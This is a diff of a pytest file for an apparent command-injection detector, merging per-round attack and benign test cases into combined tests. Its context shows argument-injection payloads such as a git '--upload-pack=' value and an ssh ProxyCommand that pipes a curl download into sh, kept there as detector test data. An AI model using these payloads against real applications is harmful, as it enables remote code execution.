@@ -1029,18 +1029,6 @@ def test_round5_sets_are_distinct():
     assert not set(ROUND5_BENIGN) & set(ALL_BENIGN) and not set(ROUND5_ATTACKS) & set(ALL_ATTACKS)
 
 
-@pytest.mark.parametrize("row", ROUND5_ATTACKS, ids=_label)
-def test_round5_command_injection_is_caught(engine, row):
-    hits = engine.inspect(carry(*row))
-    assert any(h.type == "rce" and h.score >= THRESHOLD for h in hits), hits
-
-
-@pytest.mark.parametrize("row", ROUND5_BENIGN, ids=_label)
-def test_round5_benign_raises_no_rce_finding(engine, row):
-    hits = engine.inspect(carry(*row))
-    assert not any(h.type == "rce" and h.score >= THRESHOLD for h in hits), hits
-
-
 # Round 6 (issue #4, the rce false positives of the second blind benign batch): text built from shell-looking pieces
 # that a shell would not run as a command — lists of skills and technologies with slashes, dots and parenthesised
 # notes, `;`- and `|`-separated CSV exports, a name and a path joined by `|` in a cookie, MediaWiki tables (`{|`, `!!`,
@@ -1151,18 +1139,6 @@ def test_round6_sets_are_distinct():
     assert not set(ROUND6_ATTACKS) & set(ALL_ATTACKS + ROUND5_ATTACKS)
 
 
-@pytest.mark.parametrize("row", ROUND6_ATTACKS, ids=_label)
-def test_round6_command_injection_is_caught(engine, row):
-    hits = engine.inspect(carry(*row))
-    assert any(h.type == "rce" and h.score >= THRESHOLD for h in hits), hits
-
-
-@pytest.mark.parametrize("row", ROUND6_BENIGN, ids=_label)
-def test_round6_benign_raises_no_rce_finding(engine, row):
-    hits = engine.inspect(carry(*row))
-    assert not any(h.type == "rce" and h.score >= THRESHOLD for h in hits), hits
-
-
 # Argument injection (blind batch d's `--upload-pack=` into a repository field): an option that makes git, ssh, tar or
 # rsync run a program, where the application hands the value to the tool as an argument.
 @pytest.mark.parametrize("value", ["--upload-pack=touch /tmp/pwned", "-oProxyCommand=curl 198.18.0.9/x|sh",
@@ -1265,18 +1241,6 @@ def test_round8_sets_are_distinct():
     assert not set(ROUND8_ATTACKS) & set(ALL_ATTACKS + ROUND5_ATTACKS + ROUND6_ATTACKS)
 
 
-@pytest.mark.parametrize("row", ROUND8_ATTACKS, ids=_label)
-def test_round8_command_injection_is_caught(engine, row):
-    hits = engine.inspect(carry(*row))
-    assert any(h.type == "rce" and h.score >= THRESHOLD for h in hits), hits
-
-
-@pytest.mark.parametrize("row", ROUND8_BENIGN, ids=_label)
-def test_round8_benign_is_clean(engine, row):
-    hits = engine.inspect(carry(*row))
-    assert verdict(hits) == "clean", [(h.rule, h.score) for h in hits if h.score >= THRESHOLD]
-
-
 # Round 9 (blind round 5 false positives). A record of `Label: value` lines (a crash report, an event log, a service
 # listing) names Windows system paths as field values: the newline ends a field, not a command, so it gives the path
 # no command-line context. Template tags (`{% if x == "y" %}` in Jinja, Liquid, Twig, Nunjucks) hold an `if` that
@@ -1324,13 +1288,21 @@ def test_round9_sets_are_distinct():
     assert not set(ROUND9_ATTACKS) & set(ALL_ATTACKS + ROUND5_ATTACKS + ROUND6_ATTACKS + ROUND8_ATTACKS)
 
 
-@pytest.mark.parametrize("row", ROUND9_ATTACKS, ids=_label)
-def test_round9_command_injection_is_caught(engine, row):
+# The later rounds' lists through the same checks (rounds 5 and 6 were written for the rce analyser alone: their
+# benign rows must raise no rce finding; rounds 8 and 9 must stay clean altogether)
+@pytest.mark.parametrize("row", ROUND5_ATTACKS + ROUND6_ATTACKS + ROUND8_ATTACKS + ROUND9_ATTACKS, ids=_label)
+def test_later_rounds_command_injection_is_caught(engine, row):
     hits = engine.inspect(carry(*row))
     assert any(h.type == "rce" and h.score >= THRESHOLD for h in hits), hits
 
 
-@pytest.mark.parametrize("row", ROUND9_BENIGN, ids=_label)
-def test_round9_benign_is_clean(engine, row):
+@pytest.mark.parametrize("row", ROUND5_BENIGN + ROUND6_BENIGN, ids=_label)
+def test_round5_6_benign_raises_no_rce_finding(engine, row):
+    hits = engine.inspect(carry(*row))
+    assert not any(h.type == "rce" and h.score >= THRESHOLD for h in hits), hits
+
+
+@pytest.mark.parametrize("row", ROUND8_BENIGN + ROUND9_BENIGN, ids=_label)
+def test_round8_9_benign_is_clean(engine, row):
     hits = engine.inspect(carry(*row))
     assert verdict(hits) == "clean", [(h.rule, h.score) for h in hits if h.score >= THRESHOLD]
